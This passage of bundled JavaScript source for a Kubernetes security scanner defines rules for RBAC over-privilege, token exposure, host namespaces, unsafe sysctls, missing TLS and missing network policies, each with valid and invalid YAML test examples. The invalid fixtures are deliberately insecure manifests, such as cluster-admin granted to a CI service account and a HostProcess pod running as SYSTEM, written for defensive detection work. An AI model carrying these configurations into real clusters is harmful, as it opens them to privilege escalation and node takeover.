    for (const edge of graph.edgesFrom(binding.id, "binds")) {
      if (!edge.to.includes("/ServiceAccount/")) continue;
      const account = edge.to.slice(edge.to.indexOf("/ServiceAccount/") + "/ServiceAccount/".length);
      accounts.push(account);
      for (const workload of graph.sources(edge.to, "uses")) related.push({ resource: workload.id, message: `${workload.name} runs as ${account}` });
    }
    asList(binding.attributes.subjects).forEach((subject) => {
      if (isObject(subject) && subject.kind === "Group" && typeof subject.name === "string" && /^system:serviceaccounts(:|$)/.test(subject.name)) accounts.push(`every account of group ${subject.name}`);
    });
    if (accounts.length === 0) return;
    if (grant.role) {
      const rule = everythingRuleIndex(grant.role);
      related.unshift({ resource: grant.role.id, at: ["rules", rule ?? 0, "verbs"], message: `${grant.role.name} grants every verb on every resource` });
    }
    const role = grant.role ? `${grant.roleKind} ${grant.roleName} (every verb on every resource)` : "cluster-admin";
    const scope = grant.clusterWide ? "in every namespace" : `in namespace ${namespaceOf2(binding)}`;
    report({ at: ["roleRef", "name"], message: `${binding.name} grants ${role} ${scope} to service account ${accounts.join(", ")}`, related });
  },
  examples: {
    valid: [
      {
        name: "a narrow role for a service account; cluster-admin for a group of people",
        filename: "rbac.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: metrics-reader
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: view
subjects:
  - kind: ServiceAccount
    name: metrics
    namespace: monitoring
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: platform-admins
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: Group
    name: platform-admins
    apiGroup: rbac.authorization.k8s.io
`
      }
    ],
    invalid: [
      {
        name: "cluster-admin to an account a Deployment runs as",
        filename: "rbac.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: ci-runner
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: ServiceAccount
    name: runner
    namespace: ci
`,
        extraFiles: {
          "runner.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: runner
  namespace: ci
spec:
  selector:
    matchLabels:
      app: runner
  template:
    metadata:
      labels:
        app: runner
    spec:
      serviceAccountName: runner
      containers:
        - name: runner
          image: registry.example.com/runner:3.2.0
`
        },
        errors: [{ file: "rbac.yaml", line: 8, column: 3, messageIncludes: "grants cluster-admin in every namespace to service account ci/runner" }]
      },
      {
        name: "a namespaced wildcard Role",
        filename: "rbac.yaml",
        code: `apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: everything
  namespace: shop
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: deployer
  namespace: shop
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: everything
subjects:
  - kind: ServiceAccount
    name: deployer
`,
        errors: [{ line: 19, column: 3, messageIncludes: "Role everything (every verb on every resource) in namespace shop to service account shop/deployer" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-service-account-token-automount.ts
var k8s_service_account_token_automount_default = defineRule({
  meta: {
    id: "k8s-service-account-token-automount",
    title: "Service account API token mounted by default (automountServiceAccountToken not disabled)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "Neither the pod nor its ServiceAccount sets `automountServiceAccountToken`, so every container gets an API token for the account. Most applications never call the Kubernetes API; for them the token only helps an attacker who gets code execution to move on to the cluster with the account's permissions.",
    remediation: "Set `automountServiceAccountToken: false` on the ServiceAccount (or the pod), and set it to `true` explicitly only on pods that call the API.",
    precision: "medium",
    cwe: ["CWE-200"],
    frameworks: { "CIS Kubernetes 1.9": ["5.1.6"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["service-account", "k8s-rbac"],
    references: ["https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting"]
  },
  check(workload, { graph, report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const use = serviceAccountUse(pod, graph.targets(workload.id, "uses"));
    if (use.name === "default" || use.podAutomount !== void 0 || use.accountAutomount !== void 0) return;
    const account = use.accountInScan ? `service account ${use.name}` : `service account ${use.name} (not in the scan)`;
    report({ at: use.at, message: `${workload.name} mounts an API token for ${account} in every container: neither the pod nor the account sets automountServiceAccountToken: false` });
  },
  examples: {
    valid: [
      {
        filename: "app.yaml",
        code: `apiVersion: v1
kind: ServiceAccount
metadata:
  name: orders
  namespace: shop
automountServiceAccountToken: false
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: orders
  namespace: shop
spec:
  selector:
    matchLabels: { app: orders }
  template:
    metadata:
      labels: { app: orders }
    spec:
      serviceAccountName: orders
      containers:
        - name: orders
          image: registry.example.com/shop/orders:3.0.0
`
      }
    ],
    invalid: [
      {
        filename: "app.yaml",
        code: `apiVersion: v1
kind: ServiceAccount
metadata:
  name: orders
  namespace: shop
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: orders
  namespace: shop
spec:
  selector:
    matchLabels: { app: orders }
  template:
    metadata:
      labels: { app: orders }
    spec:
      serviceAccountName: orders
      containers:
        - name: orders
          image: registry.example.com/shop/orders:3.0.0
`,
        errors: [{ line: 19, column: 7, messageIncludes: "API token for service account orders" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-service-account-token-secret.ts
var k8s_service_account_token_secret_default = defineRule({
  meta: {
    id: "k8s-service-account-token-secret",
    title: "Long-lived service account token Secret",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Secret"],
    description: "A Secret of type `kubernetes.io/service-account-token` makes the cluster issue a service account token that never expires and is not bound to a pod. Anyone who reads the Secret once can act as the service account until the Secret is deleted.",
    remediation: "Use short-lived tokens instead: the projected token pods get automatically, or `kubectl create token` / the TokenRequest API for external clients.",
    precision: "very-high",
    cwe: ["CWE-613"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Authentication: short-lived service account tokens"] },
    tags: ["service-account", "k8s-rbac"],
    references: ["https://kubernetes.io/docs/concepts/security/service-accounts/", "https://kubernetes.io/docs/concepts/configuration/secret/#serviceaccount-token-secrets"]
  },
  check(secret, { report }) {
    if (secret.attributes.type !== "kubernetes.io/service-account-token") return;
    report({ at: ["type"], message: `${secret.name} requests a long-lived service account token that never expires` });
  },
  examples: {
    valid: [
      {
        filename: "secret.yaml",
        code: `apiVersion: v1
kind: Secret
metadata:
  name: registry-pull
  namespace: shop
type: kubernetes.io/dockerconfigjson
`
      }
    ],
    invalid: [
      {
        filename: "secret.yaml",
        code: `apiVersion: v1
kind: Secret
metadata:
  name: ci-deployer-token
  namespace: ci
  annotations:
    kubernetes.io/service-account.name: deployer
type: kubernetes.io/service-account-token
`,
        errors: [{ line: 8, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-share-process-namespace.ts
var k8s_share_process_namespace_default = defineRule({
  meta: {
    id: "k8s-share-process-namespace",
    title: "Pod containers share one process namespace (shareProcessNamespace)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`shareProcessNamespace: true` lets every container of the pod see and signal the others' processes and read their environment and files through `/proc/<pid>/root`: a compromised sidecar reaches the main container's secrets, and the reverse.",
    remediation: "Remove `shareProcessNamespace` unless a debugging or process-supervision sidecar requires it; use ephemeral debug containers instead.",
    precision: "very-high",
    cwe: ["CWE-668"],
    tags: ["pod-security", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tasks/configure-pod-container/share-process-namespace/"]
  },
  check(workload, { report }) {
    const pod = podSpecOf(workload);
    if (pod?.spec.shareProcessNamespace === true) {
      report({ at: [...pod.path, "shareProcessNamespace"], message: `${workload.name} shares one process namespace between its containers (shareProcessNamespace): each can read the others' processes and secrets` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  shareProcessNamespace: true
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
    - name: log-agent
      image: registry.example.com/log-agent:2.0.0
`,
        errors: [{ line: 6, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-unsafe-sysctls.ts
var SAFE_SYSCTLS = /* @__PURE__ */ new Set([
  "kernel.shm_rmid_forced",
  "net.ipv4.ip_local_port_range",
  "net.ipv4.ip_unprivileged_port_start",
  "net.ipv4.tcp_syncookies",
  "net.ipv4.ping_group_range",
  "net.ipv4.ip_local_reserved_ports",
  "net.ipv4.tcp_keepalive_time",
  "net.ipv4.tcp_fin_timeout",
  "net.ipv4.tcp_keepalive_intvl",
  "net.ipv4.tcp_keepalive_probes",
  "net.ipv4.tcp_rmem",
  "net.ipv4.tcp_wmem"
]);
var k8s_unsafe_sysctls_default = defineRule({
  meta: {
    id: "k8s-unsafe-sysctls",
    title: "Pod sets unsafe sysctls",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The pod sets kernel parameters outside the safe, namespaced set. Unsafe sysctls can affect every pod on the node (memory and network tuning, `kernel.*` settings) or weaken isolation, and the kubelet only accepts them when an administrator allows them. The Pod Security Standards baseline profile allows only the safe set.",
    remediation: "Remove the sysctl, or move the tuning to the node configuration where it is reviewed once for every pod on the node.",
    precision: "very-high",
    cwe: ["CWE-668"],
    frameworks: { "Pod Security Standards": ["baseline"] },
    tags: ["pod-security", "sysctls", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tasks/administer-cluster/sysctl-cluster/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const unsafe = [];
    asList(pod.spec.securityContext && isObject(pod.spec.securityContext) ? pod.spec.securityContext.sysctls : void 0).forEach((sysctl, index) => {
      if (!isObject(sysctl) || typeof sysctl.name !== "string") return;
      if (!SAFE_SYSCTLS.has(sysctl.name.replace(/\//g, "."))) unsafe.push({ name: sysctl.name, path: [...pod.path, "securityContext", "sysctls", index, "name"] });
    });
    if (unsafe.length === 0) return;
    report({ at: unsafe[0].path, message: `${workload.name} sets unsafe ${unsafe.length === 1 ? "sysctl" : "sysctls"} ${unsafe.map((entry) => entry.name).join(", ")}` });
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: proxy
spec:
  securityContext:
    sysctls:
      - name: net.ipv4.ip_unprivileged_port_start
        value: "80"
  containers:
    - name: proxy
      image: envoyproxy/envoy:v1.31.0
`
      }
    ],
    invalid: [
      {
        filename: "statefulset.yaml",
        code: `apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: search
  namespace: data
spec:
  serviceName: search
  selector:
    matchLabels: { app: search }
  template:
    metadata:
      labels: { app: search }
    spec:
      securityContext:
        sysctls:
          - name: net.ipv4.tcp_syncookies
            value: "1"
          - name: kernel.msgmax
            value: "65536"
          - name: net.core.somaxconn
            value: "4096"
      containers:
        - name: search
          image: registry.example.com/data/search:8.15.0
`,
        errors: [{ line: 18, column: 13, messageIncludes: "kernel.msgmax, net.core.somaxconn" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-windows-host-process.ts
var k8s_windows_host_process_default = defineRule({
  meta: {
    id: "k8s-windows-host-process",
    title: "Windows HostProcess container runs directly on the node",
    severity: "critical",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`windowsOptions.hostProcess: true` runs the container as a process on the Windows node, with the node's network and filesystem and, typically, a SYSTEM or administrator account: it is full control of the node. The Pod Security Standards baseline profile forbids HostProcess pods.",
    remediation: "Remove `hostProcess: true`; keep node-management HostProcess DaemonSets in a dedicated, admin-only namespace exempted by policy.",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: { "CIS Kubernetes 1.9": ["5.2.11"], "Pod Security Standards": ["baseline"] },
    tags: ["pod-security", "windows", "workload-privilege"],
    references: ["https://kubernetes.io/docs/tasks/configure-pod-container/create-hostprocess-pod/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    const groups = /* @__PURE__ */ new Map();
    for (const view of pod.containers) {
      const options = effectiveSetting(pod, view, "windowsOptions");
      if (!options || getPath(options.value, ["hostProcess"]) !== true) continue;
      const path = [...options.path, "hostProcess"];
      const key = JSON.stringify(path);
      const group = groups.get(key);
      if (group) group.containers.push(view.name);
      else groups.set(key, { path, containers: [view.name], pod: options.from === "pod" });
    }
    for (const group of groups.values()) {
      report({ at: group.path, message: `${workload.name} runs ${containerList(group.containers)} as Windows HostProcess containers, privileged on the node` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: iis
spec:
  os: { name: windows }
  securityContext:
    windowsOptions:
      runAsUserName: ContainerUser
  containers:
    - name: iis
      image: mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2022
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: win-node-agent
  namespace: ops
spec:
  selector:
    matchLabels: { app: win-node-agent }
  template:
    metadata:
      labels: { app: win-node-agent }
    spec:
      hostNetwork: true
      securityContext:
        windowsOptions:
          hostProcess: true
          runAsUserName: "NT AUTHORITY\\\\SYSTEM"
      containers:
        - name: agent
          image: registry.example.com/ops/win-agent:1.0.0
`,
        errors: [{ line: 16, column: 11, messageIncludes: "HostProcess" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/encryption/k8s-ingress-ssl-redirect-disabled.ts
var REDIRECT_ANNOTATIONS = ["nginx.ingress.kubernetes.io/ssl-redirect", "ingress.kubernetes.io/ssl-redirect"];
var k8s_ingress_ssl_redirect_disabled_default = defineRule({
  meta: {
    id: "k8s-ingress-ssl-redirect-disabled",
    title: "Ingress serves plain HTTP beside TLS (ssl-redirect disabled)",
    severity: "medium",
    category: "encryption",
    platforms: ["kubernetes"],
    resourceTypes: ["Ingress"],
    description: 'The Ingress has TLS but its `ssl-redirect` annotation is `"false"`, so the controller also answers on plain HTTP instead of redirecting to HTTPS: links, bookmarks and downgrade attacks keep credentials and session cookies travelling unencrypted.',
    remediation: "Remove the annotation (the controller redirects to HTTPS by default when TLS is configured) and send an HSTS header.",
    precision: "very-high",
    cwe: ["CWE-319"],
    tags: ["ingress", "encryption-in-transit", "tls"],
    references: ["https://kubernetes.github.io/ingress-nginx/user-guide/nginx-configuration/annotations/#server-side-https-enforcement-through-redirect", "https://kubernetes.io/docs/concepts/services-networking/ingress/#tls"]
  },
  check(ingress, { report }) {
    if (asList(getPath(ingress.attributes, ["spec", "tls"])).length === 0) return;
    const annotations = annotationsAt(ingress.attributes, ["metadata"]);
    const key = REDIRECT_ANNOTATIONS.find((name) => annotations.get(name)?.trim().toLowerCase() === "false");
    if (!key) return;
    report({ at: ["metadata", "annotations", key], message: `${ingress.name} disables the HTTPS redirect (${key}: "false"): its hosts are also served over plain HTTP without TLS` });
  },
  examples: {
    valid: [
      {
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: shop
  annotations:
    nginx.ingress.kubernetes.io/force-ssl-redirect: "true"
spec:
  ingressClassName: nginx
  tls:
    - hosts: [shop.example.com]
      secretName: shop-tls
  rules:
    - host: shop.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service: { name: storefront, port: { number: 80 } }
`
      }
    ],
    invalid: [
      {
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: shop
  annotations:
    nginx.ingress.kubernetes.io/ssl-redirect: "false"
spec:
  ingressClassName: nginx
  tls:
    - hosts: [shop.example.com]
      secretName: shop-tls
  rules:
    - host: shop.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service: { name: storefront, port: { number: 80 } }
`,
        errors: [{ line: 6, column: 5, messageIncludes: "disables the HTTPS redirect" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/encryption/k8s-ingress-without-tls.ts
var k8s_ingress_without_tls_default = defineRule({
  meta: {
    id: "k8s-ingress-without-tls",
    title: "Ingress serves plain HTTP",
    severity: "medium",
    category: "encryption",
    platforms: ["kubernetes"],
    resourceTypes: ["Ingress"],
    description: "The Ingress has no `spec.tls` section, so its hosts are served over unencrypted HTTP: credentials and session cookies cross the network in clear text and can be altered in transit.",
    remediation: "Add a `spec.tls` entry for every host with a certificate Secret (for example issued by cert-manager), and redirect HTTP to HTTPS in the ingress controller.",
    precision: "high",
    cwe: ["CWE-319"],
    tags: ["ingress", "encryption-in-transit"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/ingress/#tls"]
  },
  check(ingress, { report }) {
    if (asList(getPath(ingress.attributes, ["spec", "tls"])).length > 0) return;
    report({ at: ["spec"], message: `${ingress.name} has no TLS section: its hosts are served over plain HTTP` });
  },
  examples: {
    valid: [
      {
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: shop
spec:
  tls:
    - hosts: [shop.example.com]
      secretName: shop-tls
  rules:
    - host: shop.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service: { name: storefront, port: { number: 443 } }
`
      }
    ],
    invalid: [
      {
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: shop
spec:
  rules:
    - host: shop.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service: { name: storefront, port: { number: 80 } }
`,
        errors: [{ line: 5, column: 1 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-host-network.ts
var k8s_host_network_default = defineRule({
  meta: {
    id: "k8s-host-network",
    title: "Pod shares the host's network namespace",
    severity: "high",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`hostNetwork: true` puts the pod on the node's network stack: it can bind node ports, reach services listening on the node's loopback (the kubelet, cloud metadata proxies) and sniff traffic, and NetworkPolicies no longer apply to it. The Pod Security Standards baseline profile forbids it.",
    remediation: "Remove `hostNetwork: true`; expose the pod through a Service, or use a hostPort-free design such as a NodePort or LoadBalancer Service.",
    precision: "very-high",
    cwe: ["CWE-668"],
    frameworks: { "CIS Kubernetes 1.9": ["5.2.5"], "Pod Security Standards": ["baseline"] },
    tags: ["pod-security", "host-namespaces"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podSpecOf(workload);
    if (pod?.spec.hostNetwork === true) report({ at: [...pod.path, "hostNetwork"], message: `${workload.name} uses the host's network namespace` });
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      containers:
        - name: api
          image: registry.example.com/api:3.2.1
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-agent
  namespace: monitoring
spec:
  selector:
    matchLabels: { app: node-agent }
  template:
    metadata:
      labels: { app: node-agent }
    spec:
      hostNetwork: true
      containers:
        - name: agent
          image: registry.example.com/agent:1.0.0
`,
        errors: [{ line: 13, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-host-port.ts
var k8s_host_port_default = defineRule({
  meta: {
    id: "k8s-host-port",
    title: "Container binds a port on the node (hostPort)",
    severity: "medium",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "A `hostPort` opens the port on the node's own address and forwards it to the container: the workload is reachable by anything that can reach the node, outside Services and often outside NetworkPolicies, and the port can shadow a node service. The Pod Security Standards baseline profile forbids host ports.",
    remediation: "Remove `hostPort` and expose the container through a Service (ClusterIP behind an Ingress, or LoadBalancer when it must be public).",
    precision: "very-high",
    cwe: ["CWE-668"],
    frameworks: { "CIS Kubernetes 1.9": ["5.2.13"], "Pod Security Standards": ["baseline"] },
    tags: ["pod-security", "network-exposure", "host-port"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/concepts/configuration/overview/#services"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      const bound = [];
      asList(view.container.ports).forEach((port, index) => {
        if (isObject(port) && typeof port.hostPort === "number" && port.hostPort > 0) bound.push({ port: port.hostPort, path: [...view.path, "ports", index, "hostPort"] });
      });
      if (bound.length === 0) continue;
      report({ at: bound[0].path, message: `container "${view.name}" of ${workload.name} is exposed on the node's address through hostPort ${bound.map((entry) => entry.port).join(", ")}` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: nginx:1.27.0
      ports:
        - containerPort: 8080
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: edge-proxy
  namespace: ingress
spec:
  selector:
    matchLabels: { app: edge-proxy }
  template:
    metadata:
      labels: { app: edge-proxy }
    spec:
      containers:
        - name: proxy
          image: envoyproxy/envoy:v1.31.0
          ports:
            - containerPort: 8443
              hostPort: 443
`,
        errors: [{ line: 18, column: 15, messageIncludes: "hostPort 443" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-namespace-without-network-policy.ts
var NAMESPACED_POLICY_KINDS = ["NetworkPolicy", "CiliumNetworkPolicy"];
var CLUSTER_POLICY_KINDS = ["GlobalNetworkPolicy", "CiliumClusterwideNetworkPolicy", "AdminNetworkPolicy", "BaselineAdminNetworkPolicy"];
function kubernetesNamespace2(resource) {
  return resource.platform === "kubernetes" ? namespaceOf(resource) : void 0;
}
var NO_PODS = /* @__PURE__ */ new Set(["kube-public", "kube-node-lease"]);
var k8s_namespace_without_network_policy_default = defineRule({
  meta: {
    id: "k8s-namespace-without-network-policy",
    title: "Namespace has no NetworkPolicy: pods accept traffic from anywhere in the cluster",
    severity: "low",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["Namespace"],
    description: "No NetworkPolicy in the scan applies to this namespace, so its pods accept connections from every pod of the cluster and can connect anywhere: one compromised workload elsewhere reaches its databases and internal APIs directly. The check only considers policies present in the scanned files.",
    remediation: "Add a default-deny NetworkPolicy to the namespace (`podSelector: {}` with `policyTypes: [Ingress, Egress]`) and allow the flows each workload needs.",
    precision: "medium",
    cwe: ["CWE-923"],
    frameworks: { "CIS Kubernetes 1.9": ["5.3.2"], "NSA-CISA Kubernetes Hardening": ["Network separation: network policies"] },
    tags: ["network-policy", "network-exposure"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/network-policies/#default-policies"]
  },
  check(namespace, { graph, report }) {
    const name = getPath(namespace.attributes, ["metadata", "name"]);
    if (typeof name !== "string" || NO_PODS.has(name)) return;
    if (CLUSTER_POLICY_KINDS.some((kind) => graph.countOf(kind) > 0)) return;
    const covered = NAMESPACED_POLICY_KINDS.some((kind) => graph.findBy(kind, "kubernetes-namespace", kubernetesNamespace2, name).length > 0);
    if (covered) return;
    report({ message: `namespace ${name} has no NetworkPolicy in the scan: its pods accept traffic from any pod in the cluster` });
  },
  examples: {
    valid: [
      {
        filename: "namespace.yaml",
        code: `apiVersion: v1
kind: Namespace
metadata:
  name: shop
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: default-deny
  namespace: shop
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
`
      }
    ],
    invalid: [
      {
        filename: "namespace.yaml",
        code: `apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    team: commerce
`,
        errors: [{ line: 2, column: 1, messageIncludes: "namespace shop" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/networking/k8s-network-policy-selects-no-pods.ts
var k8s_network_policy_selects_no_pods_default = defineRule({
  meta: {
    id: "k8s-network-policy-selects-no-pods",
    title: "NetworkPolicy selects no pods of its namespace",
    severity: "low",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["NetworkPolicy"],
    description: "The policy's `podSelector` matches none of the workloads the scan holds in its namespace, so it isolates nothing: a typo in a label, or labels renamed in the Deployment but not in the policy, leaves the pods it was written for open to every other pod. Only namespaces with workloads in the scan are checked.",
    remediation: "Make `spec.podSelector` match the labels of the pod template it protects (`kubectl get pods -l <selector>` should list them), or delete the stale policy.",
    precision: "medium",
    cwe: ["CWE-1188"],
    tags: ["network-policy", "selector"],
    references: ["https://kubernetes.io/docs/concepts/services-networking/network-policies/"]
  },
  check(policy, { graph, report }) {
    if (graph.edgesFrom(policy.id, "selects").length > 0) return;
    const namespace = namespaceOf2(policy);
    if (!scanHasWorkloadsIn(graph, namespace)) return;
    report({ at: ["spec", "podSelector"], message: `${policy.name} selects none of the workloads of namespace ${namespace} in the scan; it isolates nothing` });
  },
  examples: {
    valid: [
      {
        name: "matches the Deployment's pods; a policy for a namespace outside the scan",
        filename: "policy.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: api-ingress
  namespace: shop
spec:
  podSelector:
    matchLabels:
      app: api
  policyTypes: ["Ingress"]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: default-deny
  namespace: payments
spec:
  podSelector: {}
  policyTypes: ["Ingress"]
`,
        extraFiles: {
          "api.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels:
      app: api
  template:
    metadata:
      labels:
        app: api
    spec:
      containers:
        - name: api
          image: registry.example.com/api:2.3.1
`
        }
      }
    ],
    invalid: [
      {
        name: "label renamed in the Deployment",
        filename: "policy.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: api-ingress
  namespace: shop
spec:
  podSelector:
    matchLabels:
      app: shop-api
  policyTypes: ["Ingress"]
`,
        extraFiles: {
          "api.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels:
      app: api
  template:
    metadata:
      labels:
        app: api
    spec:
      containers:
        - name: api
          image: registry.example.com/api:2.3.1
`
        },
        errors: [{ file: "policy.yaml", line: 7, column: 3, messageIncludes: "selects none of the workloads of namespace shop" }]
      }
    ]
  }
});

// packages/rules/src/support/kubernetes-privilege.ts
var NODE_ROOT_CAPABILITIES = /* @__PURE__ */ new Set(["ALL", "SYS_ADMIN", "CAP_SYS_ADMIN"]);
function privilegedContainersOf(workload) {
  const found = [];
  for (const { container, path, name } of containersOf(workload)) {
    if (getPath(container, ["securityContext", "privileged"]) === true) {
      found.push({ name, at: [...path, "securityContext", "privileged"], reason: "privileged" });
      continue;
    }
    const added = asList(getPath(container, ["securityContext", "capabilities", "add"]));
    const index = added.findIndex((capability) => typeof capability === "string" && NODE_ROOT_CAPABILITIES.has(capability.toUpperCase()));
    if (index !== -1) found.push({ name, at: [...path, "securityContext", "capabilities", "add", index], reason: `adds ${String(added[index])}` });
  }
  return found;
}

// packages/rules/src/kubernetes/networking/k8s-service-exposes-privileged-pods.ts
var k8s_service_exposes_privileged_pods_default = defineRule({
  meta: {
    id: "k8s-service-exposes-privileged-pods",
    title: "LoadBalancer, NodePort or Ingress exposes privileged pods",
    severity: "high",
    category: "networking",
    platforms: ["kubernetes"],
    resourceTypes: ["Service", "Ingress"],
    description: "A Service of type LoadBalancer or NodePort, or an Ingress, routes traffic from outside the cluster to pods with a privileged container (or one adding `SYS_ADMIN` or `ALL` capabilities). A remote code execution in that exposed process is then a takeover of the node and of every pod on it, reachable from the internet.",
    remediation: "Remove `privileged: true` and the added capabilities from the exposed containers; if node-level access is truly needed, split it into a separate, unexposed workload. Keep internet-facing Services on pods that run unprivileged, as non-root, with a read-only root filesystem.",
    precision: "high",
    cwe: ["CWE-250", "CWE-668"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers", "Network separation and hardening"] },
    tags: ["service", "ingress", "network-exposure", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/concepts/services-networking/service/#publishing-services-service-types"]
  },
  check(resource, { graph, report }) {
    if (resource.type === "Service") {
      const type = externalServiceType(resource);
      if (!type) return;
      reportPrivileged(graph.targets(resource.id, "selects"), ["spec", "type"], `${resource.name} (${type})`);
      return;
    }
    for (const edge of graph.edgesFrom(resource.id, "references")) {
      const service = graph.get(edge.to);
      if (service?.type !== "Service" || externalServiceType(service)) continue;
      reportPrivileged(graph.targets(service.id, "selects"), edge.via ?? [], `${resource.name} through ${service.name}`);
    }
    function reportPrivileged(workloads, at, exposure) {
      const exposed = workloads.flatMap((workload) => privilegedContainersOf(workload).map((container) => ({ workload, container })));
      if (exposed.length === 0) return;
      const names = [...new Set(exposed.map(({ workload, container }) => `${workload.name} (container "${container.name}" ${container.reason})`))].join(", ");
      report({
        at,
        message: `${exposure} exposes privileged pods outside the cluster: ${names}`,
